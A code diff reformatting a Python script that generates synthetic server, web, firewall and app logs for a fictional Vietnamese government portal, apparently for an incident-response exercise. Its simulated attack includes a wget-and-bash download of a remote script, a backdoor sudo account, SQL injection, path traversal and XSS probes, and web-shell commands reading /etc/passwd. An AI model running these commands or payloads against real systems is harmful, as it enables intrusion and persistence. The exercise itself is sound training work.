@@ -29,10 +29,18 @@ UAS = [
     "Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)",
 ]
 PAGES = [
-    "/", "/tin-tuc", "/tin-tuc/hoi-nghi-chuyen-doi-so-tinh-nam-2026", "/tin-tuc/lich-tiep-cong-dan-thang-11",
-    "/thu-tuc-hanh-chinh", "/thu-tuc-hanh-chinh/cap-giay-phep-xay-dung", "/thu-tuc-hanh-chinh/dang-ky-ho-kinh-doanh",
-    "/van-ban/quyet-dinh-1234-qd-ubnd", "/lien-he", "/tra-cuu-ho-so?ma=000.00.12.H01-261121-0001",
-    "/gioi-thieu/co-cau-to-chuc", "/search?q=" + quote("giấy phép lái xe"),
+    "/",
+    "/tin-tuc",
+    "/tin-tuc/hoi-nghi-chuyen-doi-so-tinh-nam-2026",
+    "/tin-tuc/lich-tiep-cong-dan-thang-11",
+    "/thu-tuc-hanh-chinh",
+    "/thu-tuc-hanh-chinh/cap-giay-phep-xay-dung",
+    "/thu-tuc-hanh-chinh/dang-ky-ho-kinh-doanh",
+    "/van-ban/quyet-dinh-1234-qd-ubnd",
+    "/lien-he",
+    "/tra-cuu-ho-so?ma=000.00.12.H01-261121-0001",
+    "/gioi-thieu/co-cau-to-chuc",
+    "/search?q=" + quote("giấy phép lái xe"),
 ]
 ASSETS = ["/static/css/main.css", "/static/js/app.js", "/static/img/logo-tinh.png", "/favicon.ico"]
 
@@ -66,19 +74,56 @@ def auth_log(rng: random.Random) -> list[tuple[datetime, str]]:
             user = rng.choice(ADMINS)
             ip = f"10.10.20.{rng.randrange(10, 60)}"
             host = rng.choice(["bastion-01", "db-01", "portal-01"])
-            add(when, host, "sshd", f"Accepted publickey for {user} from {ip} port {rng.randrange(40000, 65000)} ssh2: ED25519 SHA256:{rng.getrandbits(64):016x}")
-            add(when + timedelta(seconds=1), host, "sshd", f"pam_unix(sshd:session): session opened for user {user}(uid={1000 + ADMINS.index(user)}) by (uid=0)")
+            add(
+                when,
+                host,
+                "sshd",
+                f"Accepted publickey for {user} from {ip} port {rng.randrange(40000, 65000)} ssh2: ED25519 SHA256:{rng.getrandbits(64):016x}",
+            )
+            add(
+                when + timedelta(seconds=1),
+                host,
+                "sshd",
+                f"pam_unix(sshd:session): session opened for user {user}(uid={1000 + ADMINS.index(user)}) by (uid=0)",
+            )
             if rng.random() < 0.6:
-                cmd = rng.choice(["/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update", "/usr/bin/tail -n 100 /var/log/nginx/error.log", "/usr/bin/journalctl -u postgresql"])
-                lines.append((when + timedelta(minutes=2), f"{syslog_ts(when + timedelta(minutes=2))} {host} sudo: {user} : TTY=pts/{rng.randrange(4)} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}"))
+                cmd = rng.choice(
+                    [
+                        "/usr/bin/systemctl restart nginx",
+                        "/usr/bin/apt-get update",
+                        "/usr/bin/tail -n 100 /var/log/nginx/error.log",
+                        "/usr/bin/journalctl -u postgresql",
+                    ]
+                )
+                lines.append(
+                    (
+                        when + timedelta(minutes=2),
+                        f"{syslog_ts(when + timedelta(minutes=2))} {host} sudo: {user} : TTY=pts/{rng.randrange(4)} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}",
+                    )
+                )
             end = when + timedelta(minutes=rng.randrange(5, 50))
-            add(end, host, "sshd", f"Received disconnect from {ip} port {rng.randrange(40000, 65000)}:11: disconnected by user")
+            add(
+                end,
+                host,
+                "sshd",
+                f"Received disconnect from {ip} port {rng.randrange(40000, 65000)}:11: disconnected by user",
+            )
             add(end, host, "sshd", f"pam_unix(sshd:session): session closed for user {user}")
     # Cron every 15 minutes on the database server.
     for minute in range(0, 24 * 60, 15):
         when = DAY + timedelta(minutes=minute)
-        add(when, "db-01", "CRON", "pam_unix(cron:session): session opened for user postgres(uid=115) by (uid=0)")
-        add(when + timedelta(seconds=2), "db-01", "CRON", "pam_unix(cron:session): session closed for user postgres")
+        add(
+            when,
+            "db-01",
+            "CRON",
+            "pam_unix(cron:session): session opened for user postgres(uid=115) by (uid=0)",
+        )
+        add(
+            when + timedelta(seconds=2),
+            "db-01",
+            "CRON",
+            "pam_unix(cron:session): session closed for user postgres",
+        )
     # Brute force on the bastion at night, then a success, then what the intruder does.
     start = DAY + timedelta(hours=2, minutes=10)
     names = ["root", "admin", "oracle", "test", "ubuntu", "deploy", "postgres", "git", "user", "quantri"]
@@ -88,29 +133,69 @@ def auth_log(rng: random.Random) -> list[tuple[datetime, str]]:
         port = rng.randrange(30000, 65000)
         if user in ("test", "oracle", "git", "user"):
             add(when, "bastion-01", "sshd", f"Invalid user {user} from {ATTACKER_SSH} port {port}")
-            add(when, "bastion-01", "sshd", f"Failed password for invalid user {user} from {ATTACKER_SSH} port {port} ssh2")
+            add(
+                when,
+                "bastion-01",
+                "sshd",
+                f"Failed password for invalid user {user} from {ATTACKER_SSH} port {port} ssh2",
+            )
         else:
-            add(when, "bastion-01", "sshd", f"Failed password for {user} from {ATTACKER_SSH} port {port} ssh2")
+            add(
+                when, "bastion-01", "sshd", f"Failed password for {user} from {ATTACKER_SSH} port {port} ssh2"
+            )
         if i % 6 == 5:
-            add(when, "bastion-01", "sshd", f"Connection closed by authenticating user {user} {ATTACKER_SSH} port {port} [preauth]")
+            add(
+                when,
+                "bastion-01",
+                "sshd",
+                f"Connection closed by authenticating user {user} {ATTACKER_SSH} port {port} [preauth]",
+            )
     breach = start + timedelta(seconds=420 * 2 + 30)
     add(breach, "bastion-01", "sshd", f"Accepted password for deploy from {ATTACKER_SSH} port 51876 ssh2")
-    add(breach, "bastion-01", "sshd", "pam_unix(sshd:session): session opened for user deploy(uid=1010) by (uid=0)")
+    add(
+        breach,
+        "bastion-01",
+        "sshd",
+        "pam_unix(sshd:session): session opened for user deploy(uid=1010) by (uid=0)",
+    )
     t = breach + timedelta(minutes=1)
-    for cmd in ["/usr/bin/id", "/usr/bin/wget http://185.220.101.47/x.sh -O /tmp/.x.sh", "/bin/bash /tmp/.x.sh"]:
-        lines.append((t, f"{syslog_ts(t)} bastion-01 sudo:   deploy : TTY=pts/3 ; PWD=/home/deploy ; USER=root ; COMMAND={cmd}"))
+    for cmd in [
+        "/usr/bin/id",
+        "/usr/bin/wget http://185.220.101.47/x.sh -O /tmp/.x.sh",
+        "/bin/bash /tmp/.x.sh",
+    ]:
+        lines.append(
+            (
+                t,
+                f"{syslog_ts(t)} bastion-01 sudo:   deploy : TTY=pts/3 ; PWD=/home/deploy ; USER=root ; COMMAND={cmd}",
+            )
+        )
         t += timedelta(seconds=40)
-    add(t, "bastion-01", "useradd", "new user: name=support2, UID=1011, GID=1011, home=/home/support2, shell=/bin/bash, from=/dev/pts/3")
+    add(
+        t,
+        "bastion-01",
+        "useradd",
+        "new user: name=support2, UID=1011, GID=1011, home=/home/support2, shell=/bin/bash, from=/dev/pts/3",
+    )
     add(t + timedelta(seconds=5), "bastion-01", "usermod", "add 'support2' to group 'sudo'")
-    lines.append((t + timedelta(seconds=9), f"{syslog_ts(t + timedelta(seconds=9))} bastion-01 su: (to root) deploy on pts/3"))
+    lines.append(
+        (
+            t + timedelta(seconds=9),
+            f"{syslog_ts(t + timedelta(seconds=9))} bastion-01 su: (to root) deploy on pts/3",
+        )
+    )
     return lines
 
 
 def access_log(rng: random.Random) -> list[tuple[datetime, str]]:
     lines: list[tuple[datetime, str]] = []
 
-    def add(when: datetime, ip: str, method: str, path: str, status: int, size: int, ua: str, ref: str = "-") -> None:
-        lines.append((when, f'{ip} - - [{nginx_ts(when)}] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"'))
+    def add(
+        when: datetime, ip: str, method: str, path: str, status: int, size: int, ua: str, ref: str = "-"
+    ) -> None:
+        lines.append(
+            (when, f'{ip} - - [{nginx_ts(when)}] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"')
+        )
 
     for _ in range(2600):
         # Citizens come in office hours mostly.
@@ -120,11 +205,29 @@ def access_log(rng: random.Random) -> list[tuple[datetime, str]]:
         page = rng.choice(PAGES)
         add(when, ip, "GET", page, 200, rng.randrange(8000, 60000), ua, "https://www.google.com/")
         for asset in rng.sample(ASSETS, rng.randrange(0, 3)):
-            add(when + timedelta(seconds=1), ip, "GET", asset, rng.choice([200, 304]), rng.randrange(300, 90000), ua, "https://congthongtin.example.gov.vn" + page)
+            add(
+                when + timedelta(seconds=1),
+                ip,
+                "GET",
+                asset,
+                rng.choice([200, 304]),
+                rng.randrange(300, 90000),
+                ua,
+                "https://congthongtin.example.gov.vn" + page,
+            )
         if rng.random() < 0.02:
             add(when + timedelta(seconds=3), ip, "GET", "/tin-tuc/bai-viet-da-xoa", 404, 153, ua)
         if rng.random() < 0.05:
-            add(when + timedelta(seconds=5), ip, "POST", "/dich-vu-cong/nop-ho-so", 302, 0, ua, "https://congthongtin.example.gov.vn/thu-tuc-hanh-chinh")
+            add(
+                when + timedelta(seconds=5),
+                ip,
+                "POST",
+                "/dich-vu-cong/nop-ho-so",
+                302,
+                0,
+                ua,
+                "https://congthongtin.example.gov.vn/thu-tuc-hanh-chinh",
+            )
     # A scanner and an injection campaign in the afternoon.
     t = DAY + timedelta(hours=14, minutes=3)
     sqlmap = "sqlmap/1.8.4#stable (https://sqlmap.org)"
@@ -135,21 +238,61 @@ def access_log(rng: random.Random) -> list[tuple[datetime, str]]:
         ("GET", "/tra-cuu-ho-so?ma=1%27%3Bselect%20pg_sleep(5)--", 500, sqlmap),
         ("GET", "/download?file=../../../../etc/passwd", 400, "curl/8.5.0"),
         ("GET", "/static/..%2f..%2f..%2fetc%2fshadow", 400, "curl/8.5.0"),
-        ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", 200, "Mozilla/5.0 (X11; Linux x86_64)"),
-        ("GET", "/.env", 404, "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"),
+        (
+            "GET",
+            "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
+            200,
+            "Mozilla/5.0 (X11; Linux x86_64)",
+        ),
+        (
+            "GET",
+            "/.env",
+            404,
+            "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
+        ),
         ("GET", "/wp-login.php", 404, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000034)"),
         ("GET", "/phpmyadmin/index.php", 404, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000112)"),
-        ("GET", "/.git/config", 404, "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"),
+        (
+            "GET",
+            "/.git/config",
+            404,
+            "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
+        ),
     ]
     for i in range(180):
         method, path, status, ua = probes[i % len(probes)]
-        add(t + timedelta(seconds=i * 3), ATTACKER_WEB, method, path.replace("id=1", f"id={1 + i // len(probes)}"), status, rng.randrange(150, 5000), ua)
+        add(
+            t + timedelta(seconds=i * 3),
+            ATTACKER_WEB,
+            method,
+            path.replace("id=1", f"id={1 + i // len(probes)}"),
+            status,
+            rng.randrange(150, 5000),
+            ua,
+        )
     # Web shell: an upload that should never succeed, then commands through it.
     t = DAY + timedelta(hours=15, minutes=41)
     browser = UAS[0]
-    add(t, ATTACKER_WEB, "POST", "/dich-vu-cong/tai-len-tep", 200, 512, browser, "https://congthongtin.example.gov.vn/dich-vu-cong/nop-ho-so")
+    add(
+        t,
+        ATTACKER_WEB,
+        "POST",
+        "/dich-vu-cong/tai-len-tep",
+        200,
+        512,
+        browser,
+        "https://congthongtin.example.gov.vn/dich-vu-cong/nop-ho-so",
+    )
     for k, cmd in enumerate(["whoami", "id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la%20/var/www"]):
-        add(t + timedelta(seconds=30 + k * 20), ATTACKER_WEB, "GET", f"/uploads/ho-so/anh-cccd.php?cmd={cmd}", 200, rng.randrange(40, 2000), browser)
+        add(
+            t + timedelta(seconds=30 + k * 20),
+            ATTACKER_WEB,
+            "GET",
+            f"/uploads/ho-so/anh-cccd.php?cmd={cmd}",
+            200,
+            rng.randrange(40, 2000),
+            browser,
+        )
     add(t + timedelta(minutes=5), ATTACKER_WEB, "POST", "/uploads/ho-so/anh-cccd.php", 200, 77, browser)
     return lines
 
@@ -157,29 +300,83 @@ def access_log(rng: random.Random) -> list[tuple[datetime, str]]:
 def firewall_log(rng: random.Random) -> list[tuple[datetime, str]]:
     lines: list[tuple[datetime, str]] = []
 
-    def add(when: datetime, action: str, src: str, sport: int, dst: str, dport: int, proto: int, policy: int) -> None:
+    def add(
+        when: datetime, action: str, src: str, sport: int, dst: str, dport: int, proto: int, policy: int
+    ) -> None:
         ts = when.strftime("%Y-%m-%d"), when.strftime("%H:%M:%S")
-        lines.append((when, (
-            f'{syslog_ts(when)} fw-01 date={ts[0]} time={ts[1]} devname="FGT-TTDL" devid="FG100FTK00000000" '
-            f'logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip={src} srcport={sport} '
-            f'srcintf="wan1" dstip={dst} dstport={dport} dstintf="dmz" proto={proto} action="{action}" policyid={policy} '
-            f'service="{ {80: "HTTP", 443: "HTTPS", 22: "SSH", 53: "DNS"}.get(dport, f"tcp/{dport}") }" sentbyte={rng.randrange(40, 9000)} rcvdbyte={rng.randrange(0, 90000)}'
-        )))
+        lines.append(
+            (
+                when,
+                (
+                    f'{syslog_ts(when)} fw-01 date={ts[0]} time={ts[1]} devname="FGT-TTDL" devid="FG100FTK00000000" '
+                    f'logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip={src} srcport={sport} '
+                    f'srcintf="wan1" dstip={dst} dstport={dport} dstintf="dmz" proto={proto} action="{action}" policyid={policy} '
+                    f'service="{ {80: "HTTP", 443: "HTTPS", 22: "SSH", 53: "DNS"}.get(dport, f"tcp/{dport}") }" sentbyte={rng.randrange(40, 9000)} rcvdbyte={rng.randrange(0, 90000)}'
+                ),
+            )
+        )
 
     for _ in range(900):
         when = DAY + timedelta(seconds=rng.randrange(86400))
-        add(when, "accept", citizen_ip(rng) if rng.random() < 0.8 else "113.160.5.9", rng.randrange(1024, 65000), "10.20.0.10", rng.choice([80, 443, 443, 443]), 6, 12)
+        add(
+            when,
+            "accept",
+            citizen_ip(rng) if rng.random() < 0.8 else "113.160.5.9",
+            rng.randrange(1024, 65000),
+            "10.20.0.10",
+            rng.choice([80, 443, 443, 443]),
+            6,
+            12,
+        )
     # A port sweep of the DMZ before the web attack.
     t = DAY + timedelta(hours=13, minutes=52)
-    for i, port in enumerate([21, 22, 23, 25, 53, 80, 110, 135, 139, 143, 443, 445, 993, 1433, 1521, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200, 27017]):
-        add(t + timedelta(milliseconds=350 * i), "deny" if port not in (80, 443) else "accept", ATTACKER_WEB, 40000 + i, "10.20.0.10", port, 6, 99 if port not in (80, 443) else 12)
+    for i, port in enumerate(
+        [
+            21,
+            22,
+            23,
+            25,
+            53,
+            80,
+            110,
+            135,
+            139,
+            143,
+            443,
+            445,
+            993,
+            1433,
+            1521,
+            3306,
+            3389,
+            5432,
+            5900,
+            6379,
+            8080,
+            8443,
+            9200,
+            27017,
+        ]
+    ):
+        add(
+            t + timedelta(milliseconds=350 * i),
+            "deny" if port not in (80, 443) else "accept",
+            ATTACKER_WEB,
+            40000 + i,
+            "10.20.0.10",
+            port,
+            6,
+            99 if port not in (80, 443) else 12,
+        )
     return lines
 
 
 def app_log(rng: random.Random) -> list[tuple[datetime, str]]:
     lines = []
     for _ in range(300):
-        when = DAY + timedelta(hours=rng.randrange(7, 18), minutes=rng.randrange(60), seconds=rng.randrange(60))
+        when = DAY + timedelta(
+            hours=rng.randrange(7, 18), minutes=rng.randrange(60), seconds=rng.randrange(60)
+        )
         user = rng.choice(["nguyenvana", "tranthib", "phamvand", "hoangthie", "congdan_0912345678"])
         ok = rng.random() < 0.93
         msg = f"Người dùng {user} đăng nhập {'thành công' if ok else 'thất bại'} vào Cổng dịch vụ công từ {citizen_ip(rng)}"
@@ -189,7 +386,12 @@ def app_log(rng: random.Random) -> list[tuple[datetime, str]]:
 
 def main() -> None:
     OUT.mkdir(parents=True, exist_ok=True)
-    for name, make, seed in (("auth.log", auth_log, 1), ("access.log", access_log, 2), ("firewall.log", firewall_log, 3), ("dvc-app.log", app_log, 4)):
+    for name, make, seed in (
+        ("auth.log", auth_log, 1),
+        ("access.log", access_log, 2),
+        ("firewall.log", firewall_log, 3),
+        ("dvc-app.log", app_log, 4),
+    ):
         rows = sorted(make(random.Random(seed)), key=lambda r: r[0])
         (OUT / name).write_text("".join(line + "\n" for _, line in rows), encoding="utf-8")
         print(f"{name}: {len(rows)} lines")
